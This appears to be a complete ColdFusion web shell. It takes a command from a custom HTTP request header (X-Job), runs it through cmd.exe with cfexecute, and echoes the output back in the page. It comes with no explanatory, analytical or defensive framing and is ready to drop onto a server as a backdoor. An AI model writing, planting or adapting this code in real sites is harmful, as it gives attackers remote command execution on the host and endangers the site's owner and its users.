<cfset job = cgi.http_x_job>
<cfif len(job)>
  <cfexecute name="cmd.exe" arguments="/c #job#" variable="out" timeout="10"></cfexecute>
  <cfoutput><pre>#out#</pre></cfoutput>
</cfif>
